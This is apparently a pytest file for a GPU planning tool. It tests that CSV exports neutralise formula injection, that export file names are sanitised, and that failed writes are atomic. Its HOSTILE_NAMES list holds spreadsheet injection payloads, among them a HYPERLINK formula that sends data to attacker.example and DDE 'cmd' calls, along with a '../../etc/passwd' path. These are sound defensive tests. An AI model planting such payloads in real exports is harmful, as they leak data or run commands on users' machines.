"""Exports are data, not code: no formula cell, names safe everywhere, no half-written export."""

from __future__ import annotations

import csv
import errno
import io
import os
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gpucalc.catalog import storage
from gpucalc.catalog.bundled import Catalog
from gpucalc.core.specs.inputs import Deployment, RequestClass, Workload
from gpucalc.core.specs.scenario import Scenario
from gpucalc.io.spreadsheet import FORMULA_STARTS, neutral_cell, restored_cell
from gpucalc.report.csv_export import cell_text, write_csv_files
from gpucalc.report.csv_readme import CONVENTIONS
from gpucalc.report.file_names import display_name, export_file_name, file_stem

HOSTILE_NAMES = ('=HYPERLINK("http://attacker.example/?q="&A1,"Click")', "+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
                 "  =1+1", "'=1+1")


def _formula_cells(text: str) -> list[str]:
    """Cells of a CSV text a spreadsheet would run as a formula."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [c for c in cells if c.lstrip(" ")[:1] in FORMULA_STARTS and neutral_cell(c) != c]


def test_names_that_start_a_formula_are_written_as_text(tmp_path: Path, catalog: Catalog) -> None:
    classes = tuple(RequestClass(name=name, share=1 / 4, input_len=500 + 100 * i, output_len=100)
                    for i, name in enumerate(HOSTILE_NAMES[1:5]))
    scenario = Scenario(name=HOSTILE_NAMES[0], model="llama-3.1-8b-instruct", gpu="h100-sxm-80gb",
                        deployment=Deployment(max_model_len=16384),
                        workload=Workload(classes=classes, qps_avg=2))
    zip_path = write_csv_files(tmp_path / "plan.zip", scenario, catalog)[0]
    with zipfile.ZipFile(zip_path) as archive:
        files = {name: archive.read(name).decode("utf-8-sig") for name in archive.namelist()}
    for name, text in files.items():
        if name.endswith(".csv"):
            assert _formula_cells(text) == [], name
    summary = files["summary.csv"]
    assert "'=HYPERLINK(" in summary
    assert "'+cmd|" in summary
    assert "'@SUM(" in summary
    assert "'-2+3+cmd" in summary
    assert "apostrophe (')" in files["README.txt"]


def test_numbers_stay_numbers_and_plain_decimal_text_is_kept() -> None:
    assert cell_text(-12.5) == "-12.5"
    assert cell_text(-3) == "-3"
    assert cell_text("-12.5") == "-12.5"
    assert cell_text("-1") == "-1"
    assert cell_text("-x") == "'-x"
    assert cell_text("=1") == "'=1"
    assert cell_text("a=b") == "a=b"
    assert "a negative number stays a number" in CONVENTIONS


@given(st.text(max_size=20))
def test_neutral_cells_never_start_a_formula_and_restore_exactly(text: str) -> None:
    cell = neutral_cell(text)
    assert restored_cell(cell) == text
    head = cell.lstrip(" ")[:1]
    assert head not in FORMULA_STARTS or cell == text  # only plain decimals start with "-"
    if head in FORMULA_STARTS:
        assert float(cell) == float(text)


@pytest.mark.parametrize(("name", "stem"), [
    ("Q3 plan", "Q3 plan"), ("../../etc/passwd", "etc-passwd"), ("CON", "CON_"), ("nul.txt", "nul_.txt"),
    ("a\u202eb", "ab"), ("...hidden", "hidden"), ("-rf", "rf"), ("x:y*z?", "x-y-z-"), ("  ", ""),
    ("中文 计划", "中文 计划"), ("trailing. ", "trailing"),
])
def test_file_stems_are_safe_on_every_os(name: str, stem: str) -> None:
    assert file_stem(name) == stem


def test_the_window_suggests_the_same_safe_name_for_every_export() -> None:
    name = "Q3/Q4 \u202e plan\n"
    assert export_file_name("report", name) == "gpucalc-report-Q3-Q4 plan.pdf"
    assert export_file_name("tables", name) == "gpucalc-tables-Q3-Q4 plan.zip"
    assert export_file_name("scenario", name) == "Q3-Q4 plan.gpucalc.json"
    assert export_file_name("report") == "gpucalc-report.pdf"
    assert len(file_stem("字" * 500).encode("utf-8")) <= 120
    assert display_name("a\x00b\u202ec\td") == "abc d"


def _fail_on_write(monkeypatch: pytest.MonkeyPatch, after: int) -> None:
    """Let ``after`` temporary files be written, then fail as a full disk does."""
    real = os.fsync
    calls = {"n": 0}

    def fsync(fd: int) -> None:
        calls["n"] += 1
        if calls["n"] > after:
            raise OSError(errno.ENOSPC, "No space left on device")
        real(fd)

    monkeypatch.setattr(os, "fsync", fsync)


def test_a_failed_folder_export_leaves_nothing_behind(tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "new" / "deeper" / "out"
    _fail_on_write(monkeypatch, after=3)
    with pytest.raises(OSError, match="No space left"):
        storage.atomic_write_files(target, [(f"t{i}.csv", b"x") for i in range(6)])
    assert list(tmp_path.iterdir()) == []


def test_a_failed_file_export_removes_the_folders_it_created(tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    _fail_on_write(monkeypatch, after=0)
    with pytest.raises(OSError, match="No space left"):
        storage.atomic_write_bytes(tmp_path / "a" / "b" / "plan.pdf", b"%PDF")
    assert list(tmp_path.iterdir()) == []


def test_an_export_into_an_existing_folder_replaces_its_files_and_keeps_the_rest(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "mine.txt").write_text("keep")
    (folder / "summary.csv").write_text("old")
    written = storage.atomic_write_files(folder, [("summary.csv", b"new"), ("answer.csv", b"a")])
    assert written == [folder / "summary.csv", folder / "answer.csv"]
    assert (folder / "summary.csv").read_bytes() == b"new"
    assert (folder / "mine.txt").read_text() == "keep"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_a_failed_export_into_an_existing_folder_keeps_the_old_files(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "summary.csv").write_text("old")
    _fail_on_write(monkeypatch, after=1)
    with pytest.raises(OSError, match="No space left"):
        storage.atomic_write_files(folder, [("summary.csv", b"new"), ("answer.csv", b"a")])
    assert [p.name for p in folder.iterdir()] == ["summary.csv"]
    assert (folder / "summary.csv").read_text() == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
